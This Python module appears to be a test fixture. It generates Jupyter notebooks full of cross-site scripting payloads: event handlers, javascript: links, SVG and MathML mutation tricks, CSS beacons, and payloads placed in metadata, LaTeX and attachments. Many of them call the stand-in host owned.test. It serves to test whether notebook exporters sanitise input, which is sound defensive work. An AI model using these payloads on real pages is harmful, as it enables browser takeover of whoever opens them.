# ruff: noqa: E501 (a payload reads best on its own line)
"""Notebooks written to run code in whoever opens their export, one trick each.

Whatever runs calls `OWNED`: it sets a flag and asks a host that only a page that was
taken over would ask.
"""

from __future__ import annotations

import base64
from typing import Any

OWNED = "void(window.owned=1|(new/**/Image().src='https://owned.test/ran'))"
CALL = f"(function(){{{OWNED}}})()"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
SVG_SCRIPT = (
    f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{OWNED}">'
    f"<script>{OWNED}</script><circle r='5' onclick=\"{OWNED}\"/></svg>"
)
JS = base64.b64encode(f"<script>{OWNED}</script>".encode()).decode()


def markdown(source: str, **more: Any) -> dict[str, Any]:
    return {"cell_type": "markdown", "id": "m", "metadata": {}, "source": source, **more}


def raw(source: str, mime: str) -> dict[str, Any]:
    metadata = {"raw_mimetype": mime}
    return {"cell_type": "raw", "id": "r", "metadata": metadata, "source": source}


def code(*outputs: dict[str, Any], source: str = "1", **metadata: Any) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "execution_count": 1,
        "id": "c",
        "metadata": metadata,
        "outputs": list(outputs),
        "source": source,
    }


def display(metadata: dict[str, Any] | None = None, **data: Any) -> dict[str, Any]:
    kinds = {
        "html": "text/html",
        "svg": "image/svg+xml",
        "js": "application/javascript",
        "markdown": "text/markdown",
        "mermaid": "text/vnd.mermaid",
        "latex": "text/latex",
        "png": "image/png",
        "jpeg": "image/jpeg",
        "plain": "text/plain",
        "widget": "application/vnd.jupyter.widget-view+json",
    }
    return {
        "output_type": "display_data",
        "metadata": metadata or {},
        "data": {kinds[kind]: value for kind, value in data.items()},
    }


def html(source: str) -> dict[str, Any]:
    return code(display(html=source))


def notebook(*cells: dict[str, Any], **metadata: Any) -> dict[str, Any]:
    numbered = [{**cell, "id": f"{cell['id']}{index}"} for index, cell in enumerate(cells)]
    return {"cells": numbered, "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}


_MARKUP = {
    "script": f"<script>{OWNED}</script>",
    "script of another host": "<script src=https://owned.test/x.js></script>",
    "module": f"<script type=module>{OWNED}</script>",
    "image error": f'<img src=x onerror="{OWNED}">',
    "image error without quotes": f"<img/src/onerror={CALL}>",
    "image loaded": f'<img src="data:image/png;base64,{PIXEL}" onload="{OWNED}">',
    "svg inline": SVG_SCRIPT,
    "svg animation": (
        f'<svg><a><animate attributeName="href" values="javascript:{OWNED}"/>'
        "<text y=20>press</text></a></svg>"
    ),
    "svg foreign object": f"<svg><foreignObject><img src=x onerror='{CALL}'></foreignObject></svg>",
    "svg use": f'<svg><use href="data:image/svg+xml;base64,{JS}#x"/></svg>',
    "javascript link": f'<a href="javascript:{OWNED}">press</a>',
    "javascript link, spaced": f'<a href=" java&#10;script&colon;{OWNED}">press</a>',
    "javascript link, tabs": f'<a href="&#1;java\tscript:{OWNED}">press</a>',
    "vbscript link": '<a href="vbscript:owned">press</a>',
    "data link": f'<a href="data:text/html;base64,{JS}">press</a>',
    "area": f'<map name=m><area shape=default href="javascript:{OWNED}"></map><img usemap=#m>',
    "iframe": '<iframe src="javascript:parent.window.owned=1"></iframe>',
    "iframe document": '<iframe srcdoc="<script>parent.window.owned=1</script>"></iframe>',
    "iframe of another host": '<iframe src="https://owned.test/frame"></iframe>',
    "object": f'<object data="data:text/html;base64,{JS}"></object>',
    "object of another host": '<object data="https://owned.test/o"></object>',
    "embed": '<embed src="https://owned.test/e">',
    "applet": '<applet code="https://owned.test/e"></applet>',
    "base": '<base href="https://owned.test/"><img src="x.png"><a href="y">press</a>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://owned.test/meta">',
    "meta policy": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "link sheet": '<link rel=stylesheet href="https://owned.test/s.css">',
    "link prefetch": '<link rel=prefetch href="https://owned.test/p"><link rel=preconnect '
    'href="https://owned.test">',
    "form": (
        f'<form action="https://owned.test/form"><button formaction="javascript:{OWNED}">press'
        "</button><input type=image src=https://owned.test/i></form>"
    ),
    "button": f'<button onclick="{OWNED}">press</button>',
    "input focus": f'<input autofocus onfocus="{OWNED}">',
    "details": f'<details open ontoggle="{OWNED}"><summary onclick="{OWNED}">press</summary>x</details>',
    "hover": f'<b onmouseover="{OWNED}" onpointerenter="{OWNED}">over</b>',
    "animation event": f'<style>@keyframes k{{}}</style><b style="animation:k" onanimationstart="{OWNED}">x</b>',
    "video error": f'<video src=x onerror="{OWNED}"><source onerror="{OWNED}"></video>',
    "video of another host": '<video poster="https://owned.test/v" src="https://owned.test/v"></video>',
    "audio of another host": '<audio autoplay src="https://owned.test/a"></audio>',
    "track": '<video src="data:video/mp4;base64,AA=="><track default src="https://owned.test/t"></video>',
    "picture of another host": '<img src="https://owned.test/i.png">',
    "picture set": '<img srcset="https://owned.test/i.png 1x"><picture><source '
    'srcset="https://owned.test/j.png"><img></picture>',
    "lazy picture": '<img loading=lazy src="//owned.test/i.png">',
    "picture of this host": '<img src="/logout">',
    "body": f'</div></div></main></body><body onload="{OWNED}" background="https://owned.test/b">',
    "table background": '<table background="https://owned.test/b"><tr><td background='
    '"https://owned.test/c">x</table>',
    "style sheet": '<style>@import "https://owned.test/s";*{background:url(https://owned.test/u)}</style>',
    "style attribute": '<b style="background:url(https://owned.test/u);list-style:url('
    "https://owned.test/l);content:url('https://owned.test/c')\">x</b>",
    "style attribute, escaped": '<b style="background-color:u\\72l(https://owned.test/u);'
    'border-image:\\75rl(https://owned.test/v)">x</b>',
    "style image set": "<b style=\"background-image:image-set('https://owned.test/u' 1x)\">x</b>",
    "style expression": f'<b style="width:expression({OWNED});-moz-binding:url(https://owned.test/x)">x</b>',
    "cover": '<a href="https://owned.test/cover" style="position:fixed;inset:0;z-index:9">x</a>',
    "comment": f"<!--><img src=x onerror={CALL}>-->",
    "comment, ended oddly": f"<!-- --!><img src=x onerror={CALL}> -->",
    "conditional comment": f"<!--[if true]><script>{OWNED}</script><![endif]-->",
    "processing instruction": f"<?xml-stylesheet href='javascript:{OWNED}'?><?><img src=x onerror={CALL}>?>",
    "cdata": f"<svg><![CDATA[><img src=x onerror={CALL}>]]></svg>",
    "title": f"<title></title><script>{OWNED}</script>",
    "textarea": f"<textarea></textarea><script>{OWNED}</script>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    "xmp": f'<xmp><p title="</xmp><img src=x onerror={CALL}>"></xmp>',
    "plaintext": f"<plaintext></plaintext><img src=x onerror={CALL}>",
    "template": f"<template><script>{OWNED}</script></template>",
    "mutation, math and style": (
        "<form><math><mtext></form><form><mglyph><style></math>"
        f"<img src onerror={CALL}></style></mglyph></form>"
    ),
    "mutation, math and table": (
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={CALL}&gt;'>"
    ),
    "mutation, svg and style": f'<svg></p><style><a id="</style><img src=1 onerror={CALL}>">',
    "mutation, annotation": (
        '<math><annotation-xml encoding="text/html"><style><img title="</style>'
        f'<img src onerror={CALL}>"></style></annotation-xml></math>'
    ),
    "mutation, select": f'<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror={CALL}>">',
    "math link": f'<math href="javascript:{OWNED}"><mi href="javascript:{OWNED}">press</mi></math>',
    "math action": f'<math><maction actiontype="statusline#https://owned.test" xlink:href="javascript:{OWNED}">press</maction></math>',
    "marquee": f'<marquee onstart="{OWNED}">x</marquee>',
    "custom element": f'<x-y onclick="{OWNED}" is="script">press</x-y>',
    "popover": f'<button popovertarget=p>press</button><div id=p popover onbeforetoggle="{OWNED}">x</div>',
    "access key": f'<b accesskey=x tabindex=1 onfocus="{OWNED}" onclick="{OWNED}">press</b>',
    "content editable": f'<b contenteditable oninput="{OWNED}" onfocus="{OWNED}" autofocus>press</b>',
    "import map": '<script type=importmap>{"imports":{"a":"https://owned.test/m"}}</script>',
    "declarative shadow": f'<div><template shadowrootmode=open><img src=x onerror="{OWNED}"></template></div>',
    "ping": '<a href="#here" ping="https://owned.test/ping">press</a>',
    "portal": '<portal src="https://owned.test/p"></portal><fencedframe></fencedframe>',
    "unclosed attribute": f'<img src="x` `<script>{OWNED}</script>"` `>',
    "nested tag": f"<scr<script>ipt>{OWNED}</scr</script>ipt>",
    "null in tag": f"<scr\0ipt>{OWNED}</scr\0ipt><img src=x on\0error={CALL}>",
    "slash attribute": f'<img src="x"/onerror="{OWNED}"//>',
    "entities in handler": "<img src=x onerror=&#119;indow.owned&equals;1>",
}


def hostile_notebooks() -> dict[str, dict[str, Any]]:
    """Return every trick by name: each piece of markup at each place that takes markup."""
    tricks = {}
    for name, markup in _MARKUP.items():
        tricks[name] = notebook(
            html(markup),
            markdown(markup),
            markdown(f"inline {markup} here"),
            markdown(f"# {markup}\n\n* {markup}\n\n| {markup} |\n|---|\n| {markup} |\n"),
            code(display(markdown=markup)),
            raw(markup, "text/html"),
            code({"output_type": "stream", "name": "stdout", "text": markup}, source=markup),
            code(
                {"output_type": "error", "ename": markup, "evalue": markup, "traceback": [markup]}
            ),
            code(display(plain=markup, latex=markup)),
            markdown("after"),
        )
    return {**tricks, **_by_kind(), **_by_metadata(), **_by_markdown()}


def _by_kind() -> dict[str, dict[str, Any]]:
    state = {
        "application/vnd.jupyter.widget-state+json": {
            "version_major": 2,
            "version_minor": 0,
            "state": {"x": {"model_name": f"</script><script>{OWNED}</script>"}},
        }
    }
    return {
        "mermaid output": notebook(code(display(mermaid=f"</pre><script>{OWNED}</script>"))),
        "mermaid click": notebook(
            code(display(mermaid=f'graph TD\nA-->B\nclick A "javascript:{OWNED}"'))
        ),
        "javascript output": notebook(code(display(js=OWNED))),
        "svg output": notebook(code(display(svg=SVG_SCRIPT))),
        "svg output with a document type": notebook(
            code(display(svg=f'<!DOCTYPE svg [<!ENTITY x "{OWNED}">]>{SVG_SCRIPT}'))
        ),
        "svg output that leaves its attribute": notebook(
            code(display(svg=f'"><script>{OWNED}</script>'))
        ),
        "png output that leaves its attribute": notebook(
            code(
                display(png=f'" onerror="{OWNED}" x="'), display(jpeg=f'"><script>{OWNED}</script>')
            )
        ),
        "latex output": notebook(
            code(
                display(latex=f"$$</div><script>{OWNED}</script>$$"),
                display(latex=f"$\\href{{javascript:{OWNED}}}{{press}}$"),
                display(latex=f"$\\text{{<img src=x onerror={CALL}>}}$"),
                display(
                    latex=f"\\begin{{equation}}\\text{{<script>{OWNED}</script>}}\\end{{equation}}"
                ),
            )
        ),
        "widget": notebook(
            code(display(widget={"model_id": "x", "version_major": 2}, plain="w")), widgets=state
        ),
        "ansi": notebook(
            code(
                {
                    "output_type": "stream",
                    "name": "stderr",
                    "text": f'\x1b[31;"onload="{OWNED}m<script>{OWNED}</script>\x1b[0m',
                }
            )
        ),
    }


def _by_metadata() -> dict[str, dict[str, Any]]:
    out = f'"><script>{OWNED}</script>'
    size = f"1 onload={CALL}"
    slide = {
        "slide_type": "slide",
        "data": {f'x onclick="{OWNED}" y': "1", "background-iframe": "https://owned.test/i"},
    }
    return {
        "title": notebook(markdown("x"), title=f"</title><script>{OWNED}</script>"),
        "language": notebook(
            code(source="x"),
            language_info={"name": out, "pygments_lexer": out, "file_extension": f"/../{out}"},
            kernelspec={"name": out, "display_name": out, "language": out},
        ),
        "authors": notebook(markdown("x"), authors=[{"name": out}], language=out),
        "image size": notebook(
            code(
                display(
                    {"image/png": {"width": size, "height": size, "needs_background": out}},
                    png=PIXEL,
                ),
                display({"width": size, "unconfined": out}, png=PIXEL),
            )
        ),
        "tags": notebook(code(source="x", tags=[f"a{out}", f"b onclick={CALL}"])),
        "file name": notebook(
            code(display({"filename": f"../../x{out}", "filenames": {"image/png": out}}, png=PIXEL))
        ),
        "slideshow": notebook(
            {**markdown("one"), "metadata": {"slideshow": slide}},
            {**markdown("two"), "metadata": {"slideshow": slide}},
        ),
        "magics language": notebook(code(source=f"%%{out}\nx", magics_language=out)),
    }


def _by_markdown() -> dict[str, dict[str, Any]]:
    return {
        "markdown links": notebook(
            markdown(
                f"[press](javascript:{OWNED}) [press](<javascript:{OWNED}>) "
                f"[press](JaVaScRiPt:{CALL}) [press](java&#x0A;script:{CALL})\n\n"
                f"<javascript:{CALL}> <data:text/html;base64,{JS}>\n\n"
                f"[press](data:text/html;base64,{JS}) [press][r]\n\n[r]: javascript:{CALL}\n"
            )
        ),
        "markdown images": notebook(
            markdown(
                f'![x](x"onerror="{CALL}) ![x](javascript:{CALL}) ![a" onerror="{CALL}](x)\n\n'
                "![far](https://owned.test/m.png) ![$x$](y)\n\n![r][r]\n\n[r]: https://owned.test/r.png\n"
            )
        ),
        "markdown title": notebook(markdown(f'[a](https://example.com "x\\" onclick=\\"{CALL}")')),
        "markdown code": notebook(
            markdown(
                f"```<script>{OWNED}</script>\nx\n```\n\n```mermaid\n</pre><script>{OWNED}</script>\n```\n"
            )
        ),
        "markdown formulas": notebook(
            markdown(
                f"$\\href{{javascript:{CALL}}}{{press}}$ $</span><script>{OWNED}</script>$\n\n"
                f"$$\\text{{<img src=x onerror={CALL}>}}$$\n\n"
                f"$\\style{{background:url(https://owned.test/s)}}{{x}}$ $\\class{{a}}{{b}}$\n\n"
                f"\\begin{{x}}<script>{OWNED}</script>\\end{{x}}\n"
            )
        ),
        "attachments": notebook(
            markdown(
                "![a](attachment:a) ![b](attachment:b) ![c](attachment:c) ![gone](attachment:gone)",
                attachments={
                    "a": {"image/svg+xml": base64.b64encode(SVG_SCRIPT.encode()).decode()},
                    "b": {"text/html": JS},
                    "c": {"image/png": f'" onerror="{CALL}'},
                },
            )
        ),
    }
